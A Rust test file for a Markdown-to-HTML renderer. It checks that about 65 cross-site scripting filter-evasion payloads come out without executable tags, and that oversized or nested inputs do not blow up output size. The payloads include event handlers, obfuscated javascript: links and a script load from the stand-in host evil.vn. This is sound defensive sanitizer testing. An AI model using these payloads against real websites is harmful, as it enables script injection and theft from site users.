//! Bodies that try to run scripts in the browser, and bodies that try to exhaust the builder.
//!
//! The payloads follow published lists of filter evasions: split tags, stray quotes, entities in
//! schemes, comments that end early.

use super::{RemarkKind, link_resolver, outline, remarks, rendered};
use crate::entry::markdown::LinkTarget;
use crate::entry::markdown::document::Document;
use crate::entry::markdown::filter::FilteredEvents;
use crate::entry::markdown::writer::write_document;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.vn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" />",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<p onclick=\"alert(1)\">x</p>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<td onmouseover=alert(1)>x",
    "<table><tr><td/onclick=alert(1)>x</td></tr></table>",
    "<table background=\"javascript:alert(1)\"><tr><td>x",
    "<abbr title='\" onclick=\"alert(1)'>x</abbr>",
    "<abbr title=\"x\" title='\"onclick=alert(1) \"'>x</abbr>",
    "<abbr title=`x` onclick=alert(1)>x</abbr>",
    "<span class='\" onclick=\"alert(1)'>x</span>",
    "<div class=canh-giua\" onclick=\"alert(1)\">x</div>",
    "<td colspan='2\" onclick=\"alert(1)'>x</td>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details open='\" ontoggle=\"alert(1)'>x</details>",
    "<b/onclick=alert(1)>x</b>",
    "<b\nonclick=alert(1)\n>x</b>",
    "<b =\"><img src=x onerror=alert(1)>\">x</b>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=\"javascript:alert(1)//\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#09;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<\u{1}javascript:alert(1)>)",
    "[x](<  javascript:alert(1)>)",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![\" onerror=\"alert(1)](x)",
    "![x](x \"\\\" onerror=\\\"alert(1)\")",
    "![x](x\" onerror=\"alert(1))",
    "[x](<x\" onclick=\"alert(1)>)",
    "[x](x '\" onclick=\"alert(1)')",
    "## x {#a\"onclick=\"alert(1)}",
    "## x {onclick=alert(1) style=x}",
    "```js\" onclick=\"alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "x[^\"onclick=\"alert(1)]\n\n[^\"onclick=\"alert(1)]: <script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// Splits a tag into the text outside of quotes and the quoted values.
fn split_quoted(tag: &str) -> (String, Vec<&str>) {
    let parts: Vec<_> = tag.split('"').collect();
    let outside = parts.iter().copied().step_by(2).collect::<Vec<_>>().join("\"\"");
    (outside, parts.into_iter().skip(1).step_by(2).collect())
}

/// Returns whether a rendered body may contain a tag.
fn is_harmless(tag: &str) -> bool {
    let allowed = "a abbr b blockquote br code del details div figcaption figure h2 img input \
        li ol p pre section span summary sup table tbody td th thead tr ul";
    let (outside, values) = split_quoted(tag);
    let name = outside.trim_start_matches('/').split(' ').next().unwrap_or_default();
    let is_safe = |value: &str| value.starts_with(['x', '#']);
    let addresses = outside.matches("href=").count() + outside.matches("src=").count();
    allowed.split_ascii_whitespace().any(|allowed| allowed == name)
        && !outside.contains(" on")
        && !outside.contains("style")
        && (addresses == 0 || values.first().is_some_and(|value| is_safe(value)))
}

#[test]
fn no_payload_is_executable() {
    let contexts: [fn(&str) -> String; 4] = [
        str::to_owned,
        |payload| format!("<div>\n{payload}\n</div>"),
        |payload| format!("- a {payload}"),
        |payload| format!("<b>x</b> {payload}"),
    ];
    for (payload, in_context) in
        PAYLOADS.iter().flat_map(|payload| contexts.map(|in_context| (payload, in_context)))
    {
        let html = rendered(&in_context(payload)).html;
        for tag in html.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
            assert!(is_harmless(tag), "{tag} in {html}");
        }
    }
}

#[test]
fn a_link_with_a_disallowed_scheme_is_rendered_as_its_text() {
    let body = "[Xem **ngay**](javascript:a) ![ảnh](data:b) <zalo:c>";
    assert_eq!(rendered(body).html, "<p>Xem <strong>ngay</strong> ảnh zalo:c</p>\n");
    assert!(outline(body).links.is_empty());
    assert_eq!(remarks(body).len(), 3);
}

#[test]
fn the_output_for_hostile_bodies_is_linear() {
    let n = 50_000;
    let bodies = [
        ">".repeat(n),
        "[".repeat(n),
        "![".repeat(n),
        "*a **b ".repeat(n / 7),
        "- ".repeat(n / 2),
        "<a \"".repeat(n / 4),
        "x <!-- ".repeat(n / 7),
        "<div>".repeat(n / 5),
        ">     ".repeat(n / 6) + "x",
        "-     ".repeat(n / 6) + "x",
        "\ta\n\n".repeat(n / 4),
        "\t".repeat(n) + "a",
        "a\n-\n".repeat(n / 4),
        "*\n\n".repeat(n / 3),
        (0..300).map(|depth| " ".repeat(4 * depth) + "a\n\n").collect(),
        "[^a]: ".repeat(n / 6),
        "[a](b c".repeat(n / 7),
        "[a](b c.pdf) ".repeat(n / 13),
        "](a b.c \"".repeat(n / 9),
        "[](a b.c ' \" ".repeat(n / 13),
        "[a](b ".to_owned() + &"(".repeat(n / 2) + &")".repeat(n / 2) + ".pdf)",
        "[a](b ".to_owned() + &"c.pdf' '#".repeat(n / 8),
        "[a](".to_owned() + &" ".repeat(n) + "b c.pdf)",
        "[a](".to_owned() + &"b ".repeat(n / 2) + "c.pdf)",
        "\\](a b.c)".repeat(n / 10),
        "x1".to_owned() + &"-AA1".repeat(n / 4),
        "1".to_owned() + &"-AA1".repeat(n / 4) + "%",
        "Kế hoạch số 12/KH-UBND ".to_owned() + &",".repeat(n / 2) + &" 1".repeat(n / 4),
        "12/KH-UBND (".repeat(n / 12),
        "12/KH-UBND của ".repeat(n / 16),
        ":::\n".repeat(n / 4),
        "a\tb\n".repeat(n / 4),
        "a".to_owned() + &"\t".repeat(n / 2) + "b\n" + &"a\tb\n".repeat(n / 8),
        "a) x;\n".repeat(n / 6),
        "Điều 1. x\n".repeat(n / 13),
        "“".repeat(n / 6) + &"\n” 1. x".repeat(n / 10),
        "https://a.vn/".to_owned() + &")".repeat(n),
        "https://a.vn/".to_owned() + &");".repeat(n / 2),
        "a.gov.vn;".repeat(n / 9),
        "+".repeat(n) + "!@",
        "<b>x\n".repeat(n / 5),
        "*".to_owned() + &"a\n".repeat(n / 2) + "*",
        "2*3".repeat(n / 3),
    ];
    for body in bodies {
        let html = rendered(&body).html;
        outline(&body);
        let start: String = body.chars().take(20).collect();
        assert!(html.len() < 40 * n, "{} bytes for {start:?}", html.len());
    }
}

#[test]
fn the_tables_of_tabs_of_a_text_have_a_greatest_number_of_cells() {
    let table = |columns: usize, rows: usize| {
        "a".to_owned() + &"\t".repeat(columns - 1) + "b\n" + &"a\tb\n".repeat(rows - 1)
    };
    let tables = |body: &str| rendered(body).html.matches("<table>").count();
    assert_eq!(tables(&table(1000, 300)), 1);
    assert_eq!(tables(&table(1000, 301)), 0);
    let two = table(1000, 200) + "\n" + &table(1000, 101);
    assert_eq!(tables(&two), 1);
    assert!(rendered(&two).html.ends_with("a\tb</p>\n"), "the second is text");
}

#[test]
fn lettered_lines_after_a_deeply_indented_item_are_not_indented() {
    let body = " ".repeat(70_000) + "- x\na) x\n" + &"b) x\na) x\n".repeat(100);
    let html = rendered(&body).html;
    assert!(html.len() < 10_000, "{}", html.len());
    assert!(html.contains("b) x"));
}

#[test]
fn a_body_on_which_the_parser_fails_is_rendered_as_plain_text() {
    let body = "# Một & *hai*\n\n<b>";
    let mut events = FilteredEvents::new(body);
    events.next();
    events.events_mut().simulate_failure();
    let document = Document::from_events(body, events);
    let resolver = &mut link_resolver(|url, _| LinkTarget::from_href(url));
    let html = write_document(body, &document).resolve(resolver);
    assert_eq!(html.html, "<p># Một &amp; *hai*</p>\n<p>&lt;b&gt;</p>\n");
    assert!(remarks("bình thường").iter().all(|(kind, _)| *kind != RemarkKind::ParserFailed));
}
